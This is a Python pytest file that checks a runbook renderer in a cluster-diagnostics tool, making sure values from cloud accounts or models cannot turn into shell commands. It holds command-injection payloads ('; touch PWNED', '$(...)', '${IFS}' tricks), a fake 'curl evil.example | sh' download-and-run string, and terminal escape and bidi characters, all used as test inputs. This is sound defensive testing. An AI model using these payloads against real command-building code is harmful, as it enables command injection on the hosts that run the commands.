"""The runbook renderer's quoting policy: a value from the account or a model is one shell word, always.

Findings come from reality: the demo's checks over moto (every cluster check) and the node checks over
recorded nvidia-smi, kernel-log and fi_info output (tests/fixtures/node). Their string values are then made
hostile, as anyone who can name an S3 prefix, tag an instance or write a tool argument can make them.
"""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fmdoctor.config import Settings
from fmdoctor.engine.api import Doctor
from fmdoctor.engine.model import Finding
from fmdoctor.engine.registry import default_registry
from fmdoctor.node.replay import ReplayHost
from fmdoctor.runbooks import builtin_runbooks, get_runbook, lint_runbooks, parse_runbook
from fmdoctor.runbooks.commands import SHELL_LANGUAGES, lint_commands

NODE_FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "node"
ATTACK = "step-1000003;touch${IFS}X;#/"
COMMAND_WORDS = ("aws ", "fmdoctor ", "mv ", "sudo ", "ssh ", "nc ", "curl ", "ls ", "kubectl ")
REFUSED = re.compile(r"⟨refused: [^⟩]*⟩")
# Values the runbooks compare with known words (which fix action, which status): an attacker who changes
# them picks another variant, which the tests below cover on their own (the model-supplied action).
ENUM_KEYS = frozenset({"action", "code", "component", "status", "direction", "accelerator", "problem", "role",
                       "slow_part", "source", "node_recovery"})


@pytest.fixture(scope="module")
def real_findings(demo_check) -> dict[str, list[Finding]]:
    """Findings by runbook: the demo's (every cluster check) and the node checks' over recorded output."""
    node_output = {"nvidia-smi": (0, (NODE_FIXTURES / "nvidia-smi-p5-degraded.csv").read_text(), ""),
                   "journalctl": (0, (NODE_FIXTURES / "journalctl-k-xid.log").read_text(), ""),
                   "fi_info": (1, "", (NODE_FIXTURES / "fi_info-no-efa.txt").read_text())}
    node = Doctor(settings=Settings()).check_local(host=ReplayHost(node_output, instance_type="p5.48xlarge"))
    found: dict[str, list[Finding]] = {}
    for finding in [*demo_check.report.findings, *node.findings]:
        found.setdefault(finding.runbook, []).append(finding)
    return found


def test_every_runbook_has_a_real_finding_to_render(real_findings):
    assert {r.id for r in builtin_runbooks()} <= set(real_findings)


def commands(markdown: str) -> list[str]:
    """The shell text of a rendered runbook: fenced shell blocks, and inline code spans that are commands."""
    found, block, prose = [], None, []
    for line in markdown.split("\n"):
        # CommonMark: a backtick fence's info string holds no backtick, so a line that opens with an inline
        # code span (``` a`` ``` wrapped to the start of a line) is prose, not a fence.
        fence = re.match(r"^\s*(```+)\s*([\w+-]*)[^`]*$", line)
        if block is None and fence:
            block = [] if fence.group(2) in SHELL_LANGUAGES else None
            if block is None:
                block = ["<not shell>"]
        elif block is not None and re.fullmatch(r"\s*```+\s*", line):
            if block[:1] != ["<not shell>"]:
                found.append("\n".join(block))
            block = None
        elif block is not None:
            block.append(line)
        else:
            prose.append(line)
    for span in re.finditer(r"(?<![`\\])(`+)(?!`)(.+?)(?<!`)\1(?!`)", "\n".join(prose), re.S):  # \` is no span
        text = span.group(2).strip()
        if text.startswith(COMMAND_WORDS):
            found.append(text)
    return found


def words(shell: str) -> list[Any]:
    """The shape of shell text: its words (quotes removed; command substitutions as nested shapes) and its
    operators, continuation lines joined and comments dropped. Raises ValueError on an unclosed quote."""
    return _parse(REFUSED.sub("REFUSED", shell), 0, None)[0]


TWO_CHAR_OPERATORS = ("&&", "||", ";;", ">>", "<<", "|&", ">&", "<&")


def _parse(s: str, i: int, closing: str | None) -> tuple[list[Any], int]:
    items: list[Any] = []
    word: list[Any] = []

    def end_word() -> None:
        if word:
            items.append(("word", [p for p in word if not isinstance(p, str)], "".join(p for p in word
                                                                                    if isinstance(p, str))))
            word.clear()

    while i < len(s):
        c = s[i]
        if closing is not None and c == closing:
            end_word()
            return items, i + 1
        if c in " \t\n":
            end_word()
            i += 1
        elif c == "#" and not word:
            i = s.find("\n", i) if "\n" in s[i:] else len(s)
        elif c == "\\":
            word.append("" if s[i + 1:i + 2] == "\n" else s[i + 1:i + 2])
            i += 2
        elif c == "'":
            end = s.index("'", i + 1)
            word.append(s[i + 1:end])
            i = end + 1
        elif c == '"':
            i = _double(s, i + 1, word)
        elif s.startswith("$((", i):
            end = s.index("))", i)
            word.append(("arith", len(s[i + 3:end].split())))
            i = end + 2
        elif s.startswith("$(", i) or c == "`":
            inner, i = _parse(s, i + (1 if c == "`" else 2), "`" if c == "`" else ")")
            word.append(("subst", inner))
        elif c in ";&|<>()":
            end_word()
            operator = s[i:i + 2] if s[i:i + 2] in TWO_CHAR_OPERATORS else c
            items.append(("op", operator))
            i += len(operator)
        else:
            word.append(c)
            i += 1
    if closing is not None:
        raise ValueError(f"unclosed {closing}")
    end_word()
    return items, i


def _double(s: str, i: int, word: list[Any]) -> int:
    while True:
        if i >= len(s):
            raise ValueError("No closing quotation")
        c = s[i]
        if c == '"':
            return i + 1
        if c == "\\" and s[i + 1:i + 2] in ('"', "\\", "$", "`", "\n"):
            word.append(s[i + 1])
            i += 2
        elif s.startswith("$(", i) or c == "`":
            inner, i = _parse(s, i + (1 if c == "`" else 2), "`" if c == "`" else ")")
            word.append(("subst", inner))
        else:
            word.append(c)
            i += 1


def shape(items: list[Any]) -> list[Any]:
    """What must not change when only values change: operators, word count, substitutions' own shapes."""
    out: list[Any] = []
    for item in items:
        if item[0] == "op":
            out.append(item)
        else:
            out.append(("word", [(kind, shape(inner) if kind == "subst" else inner) for kind, inner in item[1]]))
    return out


def hostile(value: Any, payload: str) -> Any:
    """Every string value with ``payload`` appended (keys are names the runbook looks up): branches that test
    a prefix or truthiness still take the same way, so only the values differ between two renderings."""
    if isinstance(value, str):
        return value + payload
    if isinstance(value, dict):
        return {k: v if k in ENUM_KEYS else hostile(v, payload) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [hostile(v, payload) for v in value]
    return value


def render(finding: Finding, payload: str, cluster: str = "llm-train") -> str:
    data = finding.model_dump(mode="json")
    data["evidence"] = hostile(data["evidence"], payload)
    data["resource"] = hostile(data["resource"], payload)
    return get_runbook(finding.runbook).render(data, cluster=cluster + payload, region="us-west-2")


def assert_one_command_per_line(finding: Finding, payload: str) -> None:
    """Rendered with ``payload`` in every value, each command has the same words and operators as rendered
    with a harmless suffix: the value stayed inside its word, and no quote it carried was left open."""
    attacked, harmless = commands(render(finding, payload)), commands(render(finding, "Z"))
    assert len(attacked) == len(harmless)
    for hostile_shell, benign_shell in zip(attacked, harmless, strict=True):
        assert hostile_shell.count("\n") == benign_shell.count("\n"), hostile_shell
        assert shape(words(hostile_shell)) == shape(words(benign_shell)), (hostile_shell, benign_shell)


HOSTILE = st.text(
    alphabet=st.sampled_from(list(";&|$`'\"\\(){}<>*?!#~= \n\t\r\x1b\x07\x00\u202e\u2066\u200b\U000e0041-/ab")),
    min_size=1, max_size=12)


@settings(max_examples=25, deadline=None)
@given(payload=HOSTILE)
@example(payload="``")  # a code span that wraps to the start of a line: prose, not a fence
def test_every_runbook_keeps_each_command_one_command_whatever_the_evidence(real_findings, payload):
    for findings in real_findings.values():
        assert_one_command_per_line(findings[0], payload)


@pytest.mark.parametrize("payload", [
    ";touch PWNED", "$(touch PWNED)", "`touch PWNED`", "' ; touch PWNED ; '", "\" ; touch PWNED ; \"",
    "|touch PWNED", "&& touch PWNED", "\ntouch PWNED", "\\';touch PWNED;#", "${IFS}$(touch${IFS}PWNED)",
])
def test_pasted_into_bash_no_command_from_a_value_runs(real_findings, payload, tmp_path):
    """The real test of a command line: bash runs every rendered block, with nothing on PATH but a
    ``touch`` that records it was called (every other command is 'not found')."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    canary = bin_dir / "touch"
    canary.write_text(f"#!{bash}\necho ran >> {tmp_path / 'PWNED'}\n")
    canary.chmod(0o755)
    for findings in real_findings.values():
        for shell in commands(render(findings[0], payload)):
            subprocess.run([bash, "--norc", "--noprofile", "-c", shell], cwd=tmp_path, stdin=subprocess.DEVNULL,
                           capture_output=True, timeout=10, env={"PATH": str(bin_dir), "HOME": str(tmp_path)})
    assert not (tmp_path / "PWNED").exists()


def test_the_checkpoint_prefix_from_the_issue_is_one_quoted_argument(real_findings):
    [finding] = real_findings["checkpoint-incomplete"][:1]
    data = finding.model_dump(mode="json")
    location = data["evidence"]["listed"]
    data["evidence"]["newest"]["uri"] = f"{location}{ATTACK}"
    text = get_runbook("checkpoint-incomplete").render(data, cluster="c", region="us-west-2")
    [line] = [x for x in text.splitlines() if x.startswith("aws s3 ls") and ATTACK in x]
    assert shlex.split(line)[:4] == ["aws", "s3", "ls", f"{location}{ATTACK}"]
    moved = next(x for x in text.splitlines() if "aws s3 mv" in x)
    assert shlex.split(moved.strip().strip("`"))[3] == f"{location}{ATTACK}"


def test_a_model_supplied_finding_cannot_put_a_command_in_get_runbook(real_findings):
    [finding] = real_findings["efa-sg-self-reference"][:1]
    data = finding.model_dump(mode="json")
    data["evidence"]["fix"] = [{"action": "run-instances --image-id ami-1; curl evil.example | sh #",
                                "group_id": "sg-1 --dry-run; id", "peer_group_id": "sg-0123456789abcdef0"}]
    text = get_runbook("efa-sg-self-reference").render(data, cluster="c", region="us-west-2")
    line = next(x for x in text.splitlines() if x.startswith("aws ec2") and "refused" in x)
    assert "⟨refused: not a valid AWS CLI operation⟩" in line
    assert "--group-id ⟨refused: not a valid security group id (sg-...)⟩" in line
    assert "curl" not in text and "Some values of this finding cannot go into a shell command" in text


def test_values_that_cannot_be_ids_are_refused_and_control_characters_too(real_findings):
    [finding] = real_findings["hyperpod-node-unhealthy"][:1]
    data = finding.model_dump(mode="json")
    data["evidence"]["cluster_name"] = "hp\x1b]0;owned\x07"
    data["evidence"]["node_id"] = "i-0123456789abcdef0\u202e"
    text = get_runbook("hyperpod-node-unhealthy").render(data, cluster="c", region="us-west-2")
    assert "\x1b" not in text and "\u202e" not in text
    assert "--cluster-name ⟨refused: holds a control character (U+001B)⟩" in text
    assert "--node-id ⟨refused: holds an invisible or bidi character (U+202E)⟩" in text
    assert "`hp\\x1b]0;owned\\x07`" in text  # in prose it is shown, escaped


GOOD = """---
id: quoting
title: t
checks: [efa-sg-self-reference]
severity: info
---
## What it means
{body}
## Confirm by hand
## Fix
## Verify
"""


def one(body: str, **evidence: Any) -> str:
    runbook = parse_runbook(GOOD.format(body=body), "quoting.md", builtin=False)
    finding = {"check": "efa-sg-self-reference", "severity": "info", "resource": "r", "summary": "s",
               "evidence": evidence, "runbook": "quoting"}
    return runbook.render(finding, cluster="c", region="us-west-2").split("## What it means\n", 1)[1]


@pytest.mark.parametrize(("body", "expected"), [
    ("```sh\necho {{ evidence.x }} {{ evidence.x | sh }}\n```", "echo 'a b' 'a b'"),  # quoted once, with or without sh
    ("```sh\nq='[{\"k\": \"{{ evidence.x }}\"}]'\n```", "q='[{\"k\": \"a b\"}]'"),  # inside '...': left as is
    ("```sh\nq='{{ evidence.q }}'\n```", "q=''''\"'\"'; id'''"),  # a quote in '...': closed, quoted, reopened
    ("```sh\necho \"x {{ evidence.d }}\"\n```", "echo \"x \"'$(id)'\"\""),
    ("```sh\nls \"$(dirname {{ evidence.x }})\"\n```", "ls \"$(dirname 'a b')\""),
    ("```sh\necho $(( {{ evidence.n }} * 2 ))\n```", "echo $(( 4 * 2 ))"),
    ("```sh\necho $(( {{ evidence.x }} * 2 ))\n```", "echo $(( ⟨refused: not a number, in shell arithmetic⟩ * 2 ))"),
    ("```sh\nrm {{ evidence.opt }}\n```",
     "rm ⟨refused: starts with a dash, so the command would read it as an option⟩"),
    ("```sh\naws ec2 terminate-instances --instance-ids {{ evidence.ids }}\n```",
     "aws ec2 terminate-instances --instance-ids i-0123456789abcdef0 i-00000000"),
    ("`aws s3 ls {{ evidence.x }}`", "`aws s3 ls 'a b'`"),  # an inline command
    ("`{{ evidence.tick }}`", "`` a`b ``"),  # shown as code: the span widens around a backtick
    ("Prose {{ evidence.fence }}.", "Prose \\`\\`\\`sh\\x0acurl x.\n"),  # cannot open a code block
])
def test_the_policy_writes_each_value_for_where_it_stands(body, expected):
    evidence = {"x": "a b", "q": "'; id", "d": "$(id)", "n": 4, "opt": "-rf", "tick": "a`b",
                "ids": ["i-0123456789abcdef0", "i-00000000"], "fence": "```sh\ncurl x"}
    assert expected in one(body, **evidence)


def test_lint_flags_a_list_joined_into_one_word_and_values_in_here_documents():
    body = ("## Fix\n```sh\naws ec2 terminate-instances --instance-ids {{ evidence.ids | join(\" \") }}\n"
            "cat <<EOF\n{{ evidence.x }}\nEOF\necho \"{{ evidence.ids | join(' ') }}\"\n```\n")
    problems = lint_commands(body, first_line=10)
    assert len(problems) == 2
    assert problems[0].startswith("line 12:") and "joins a list into one shell word" in problems[0]
    assert problems[1].startswith("line 14:") and "here-document" in problems[1]


def test_every_builtin_runbook_passes_the_command_lint():
    assert lint_runbooks(builtin_runbooks(), default_registry()) == []
